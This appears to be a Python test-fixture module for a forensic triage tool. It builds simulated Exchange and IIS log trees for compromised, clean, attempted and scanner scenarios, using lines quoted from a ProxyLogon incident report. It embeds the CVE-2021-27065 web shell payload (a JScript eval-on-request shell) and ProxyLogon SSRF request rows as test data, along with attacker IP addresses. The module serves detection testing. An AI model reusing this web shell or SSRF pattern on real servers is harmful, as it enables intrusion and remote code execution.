"""Small evidence trees for core-logs tests, built from the real lines quoted in ../shared.

Real values come from logs-and-detections.md §1a-1d (helsecert incident lines, CSS-Exchange issue
#100 chain, the nmap probe row) and the Qazeer CC0 samples (headers, benign rows).
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

from conftest import TEST_DATA


def httpproxy_fields() -> list[str]:
    """The real 74-field #Fields list (Qazeer sample, CC0)."""
    text = (TEST_DATA / "log-samples-cc0/microsoft_exchange.md").read_text(encoding="utf-8")
    for line in text.splitlines():
        if line.startswith("#Fields: DateTime,RequestId,MajorVersion") and "AnchorMailbox" in line:
            return line.split(":", 1)[1].strip().split(",")
    raise AssertionError("HttpProxy #Fields line not found in the shared sample")


FIELDS = httpproxy_fields()
INSTALL = "C/Program Files/Microsoft/Exchange Server/V15"
ATTACKER = "130.255.189.21"  # helsecert incident
SHELL_IP = "139.162.202.236"  # helsecert web shell access


def csv_line(values: list[str]) -> str:
    buf = io.StringIO()
    csv.writer(buf, lineterminator="").writerow(values)
    return buf.getvalue()


def hp_row(**kw: str) -> str:
    base = {"MajorVersion": "15", "MinorVersion": "1", "BuildVersion": "2176", "RevisionVersion": "2",
            "ServerHostName": "EXSRV", "Method": "POST", "ProxyAction": "Proxy"}
    base.update(kw)
    return csv_line([base.get(f, "") for f in FIELDS])


def hp_header(layout: str, date: str = "2021-03-03T06:00:00.000Z") -> str:
    directives = ["#Software: Microsoft Exchange Server", "#Version: 15.01.2176.002", "#Log-type: HttpProxy Logs",
                  f"#Date: {date}", "#Fields: " + ",".join(FIELDS)]
    bare = ",".join(FIELDS)
    if layout == "bare-first":
        return "\n".join([bare, *directives]) + "\n"
    if layout == "bare-after":
        return "\n".join([*directives, bare]) + "\n"
    return "\n".join(directives) + "\n"


def benign_hp(ts: str, ip: str = "10.0.0.5") -> str:
    return hp_row(DateTime=ts, RequestId="5e58f5e5-0000", Protocol="Ecp", UrlHost="mail.example.no",
                  UrlStem="/ecp/default.aspx", AuthenticationType="NTLM", IsAuthenticated="true",
                  AuthenticatedUser="EXAMPLE\\user", AnchorMailbox="Sid~S-1-5-21-1-2-3-4343",
                  UserAgent="Mozilla/5.0 (Windows NT 10.0; Win64; x64)", ClientIpAddress=ip, HttpStatus="200",
                  BackEndCookie="Server~exsrv.example.local~1942063431~2021-03-04T06:00:00", Method="GET")


def ssrf(ts: str, target: str, status: str, ua: str = "python-requests/2.25.1", stem: str = "/ecp/y.js",
         ip: str = ATTACKER, proto: str = "Ecp") -> str:
    # helsecert lines: ClientIpAddress, UrlHost, UrlStem, RoutingHint, UserAgent, AnchorMailbox, HttpStatus
    return hp_row(DateTime=ts, RequestId="xxx", Protocol=proto, UrlHost="mail.xxx.no", UrlStem=stem,
                  RoutingHint="X-BEResource-Cookie", UserAgent=ua, AnchorMailbox=f"ServerInfo~a]@servernavn.xxx.local:444{target}",
                  ClientIpAddress=ip, HttpStatus=status, AuthenticationType="", IsAuthenticated="false")


def nmap_probe(ts: str, ip: str = "192.0.2.50") -> str:
    # the nmap scanner row (microsoft-tools.md §1.4)
    return hp_row(DateTime=ts, RequestId="nmap", Protocol="Owa", UrlHost="mail.xxx.no", UrlStem="/owa/auth/x.js",
                  AuthenticationType="FBA", IsAuthenticated="false", AnchorMailbox="ServerInfo~localhost/ecp/default.flt?",
                  HttpStatus="500", TargetServer="localhost", RoutingHint="X-AnonResource-Backend-Cookie",
                  ClientIpAddress=ip, UserAgent="Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
                  Method="GET")


ECP_HEADER = ("#Software: Microsoft Exchange Server\n#Version: 15.0.0.0\n#Log-type: ECP Server Log\n"
              "#Date: 2021-03-03T00:00:00.000Z\n#Fields: TimeStamp,ServerName,EventId,EventData\n")
# helsecert EventData of the CVE-2021-27065 line, unquoted from its CSV form (" doubled in the original)
ECP_PAYLOAD = ("S:CMD=Set-OabVirtualDirectory.ExternalUrl='http://f/<script language=\"JScript\" runat=\"server\">"
               "function Page_Load(){eval(Request[\"klk123456\"],\"unsafe\");}</script>'.Identity='982d48c8-5f8a-4e2b-9d7a-1c2b3d4e5f60'"
               ";S:REQID=;S:URL=/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=x&schema=OABVirtualDirectory;S:EX=")
ECP_BENIGN = ("2021-03-03T00:02:33.966Z,EXSRV,ECP.Request,S:TIME=13;S:SID=666655678-1234;S:CMD=Get-InboxRule;S:REQID=;"
              "S:URL=/ecp/RulesEditor/InboxRules.svc/GetList?msExchEcpCanary=CANARY;S:REFERRER=;S:EX=")

IIS_HEADER = ("#Software: Microsoft Internet Information Services 10.0\n#Version: 1.0\n#Date: 2021-03-05 00:00:00\n"
              "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) "
              "cs(Referer) sc-status sc-substatus sc-win32-status time-taken\n")
# helsecert web shell access line (real), with the s-ip anonymised as in the source ("xxx")
IIS_SHELL = ("2021-03-05 03:06:27 xxx GET /owa/auth/RedirSuiteServerProxy.aspx &CorrelationID=<empty>;&cafeReqId=cde28fc4-299e-4179-b3e9-de56f5c1d9ee;&encoding=; "
             "443 - 139.162.202.236 Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+(KHTML,+like+Gecko)+Chrome/65.0.2345+Safari/537.36 - 200 0 0 133")


def iis_line(ts: str, method: str, stem: str, ip: str, status: str, ua: str = "Mozilla/5.0+(Windows+NT+10.0)") -> str:
    return f"{ts} 10.0.0.1 {method} {stem} &CorrelationID=<empty>;&cafeReqId=abc; 443 - {ip} {ua} - {status} 0 0 15"


def write(root: Path, rel: str, text: str | bytes) -> Path:
    p = root / rel
    p.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(text, str):
        p.write_text(text, encoding="utf-8")
    else:
        p.write_bytes(text)
    return p


def build_server(root: Path, scenario: str) -> Path:
    """A KAPE-style tree. scenario: compromised | clean | attempts | scanner."""
    hp = f"{INSTALL}/Logging/HttpProxy"
    benign = [benign_hp(f"2021-03-03T06:{m:02d}:00.000Z") for m in range(0, 50, 5)]
    ecp_rows = list(benign)
    auto_rows: list[str] = []
    owa_rows: list[str] = []
    mapi_rows: list[str] = []
    if scenario in ("compromised", "attempts"):
        auto_rows.append(ssrf("2021-03-03T06:49:42.162Z", "/autodiscover/autodiscover.xml?#", "200",
                              ua="ExchangeServicesClient/0.0.0.0", proto="Autodiscover"))
    if scenario == "compromised":
        mapi_rows.append(ssrf("2021-03-03T06:49:44.100Z", "/mapi/emsmdb/?#", "200", proto="Mapi"))
        ecp_rows.append(ssrf("2021-03-03T06:49:46.210Z", "/ecp/proxyLogon.ecp?#", "241"))
        ecp_rows.append(ssrf("2021-03-03T06:50:01.000Z",
                             "/ecp/DDI/DDIService.svc/GetObject?msExchEcpCanary=8BeqxxxWYd1L8.&schema=OABVirtualDirectory#", "200"))
        ecp_rows.append(ssrf("2021-03-03T06:59:20.359Z",
                             "/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=8BeqxxxWYd1L8.&schema=ResetOABVirtualDirectory#", "200"))
    if scenario == "scanner":
        owa_rows.append(nmap_probe("2021-03-04T10:00:00.000Z"))
    ecp_rows.sort()
    write(root, f"{hp}/Ecp/HttpProxy_2021030306-1.LOG", hp_header("bare-first") + "\n".join(ecp_rows) + "\n")
    write(root, f"{hp}/Autodiscover/HttpProxy_2021030306-1.LOG", hp_header("bare-after") + "\n".join(auto_rows + benign[:2]) + "\n")
    write(root, f"{hp}/Mapi/HttpProxy_2021030306-1.LOG", hp_header("plain") + "\n".join(mapi_rows + benign[:2]) + "\n")
    write(root, f"{hp}/Owa/HttpProxy_2021030410-1.LOG", hp_header("plain") + "\n".join(owa_rows + benign[:1]) + "\n")
    ecp_server = [ECP_BENIGN]
    if scenario == "compromised":
        ecp_server.append(csv_line(["2021-03-03T06:49:53.772Z", "EXSRV", "ECP.Request", ECP_PAYLOAD]))
    write(root, f"{INSTALL}/Logging/ECP/Server/ECPServer20210303-1.LOG", ECP_HEADER + "\n".join(ecp_server) + "\n")
    oab = ["2021-03-03T06:00:00.000Z OABGenerator Download completed for OAB 'Default Offline Address Book'",
           "2021-03-03T06:10:00.000Z Download failed and temporary file 'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\ClientAccess\\OAB\\Temp\\a.tmp' needs to be removed"]
    if scenario == "compromised":
        oab.append("2021-03-03T07:00:10.000Z Download failed and temporary file "
                   "'\\\\127.0.0.1\\c$\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\RedirSuiteServerProxy.aspx' needs to be removed")
    write(root, f"{INSTALL}/Logging/OABGeneratorLog/OABGenerator_20210303-1.log", "\n".join(oab) + "\n")
    iis = [iis_line("2021-03-05 02:00:00", "GET", "/owa/auth/logon.aspx", "10.0.0.5", "200"),
           iis_line("2021-03-05 02:01:00", "POST", "/owa/auth.owa", "10.0.0.5", "302")]
    if scenario == "compromised":
        iis.append(iis_line("2021-03-03 06:49:46", "POST", "/ecp/y.js", ATTACKER, "200", ua="python-requests/2.25.1"))
        iis.append(IIS_SHELL)
    if scenario == "scanner":
        iis.append(iis_line("2021-03-04 10:00:00", "GET", "/owa/auth/x.js", "192.0.2.50", "500",
                            ua="Mozilla/5.0+(compatible;+Nmap+Scripting+Engine;+https://nmap.org/book/nse.html)"))
    iis.sort()
    write(root, "C/inetpub/logs/LogFiles/W3SVC1/u_ex210305.log", IIS_HEADER + "\n".join(iis) + "\n")
    return root


def core_stages() -> list:  # type: ignore[type-arg]
    """The core-logs stages only (logs, correlate, verdict): these tests do not depend on other areas."""
    from extriage.scan.stages import correlate, logs, verdict

    return [*logs.STAGES, *correlate.STAGES, *verdict.STAGES]
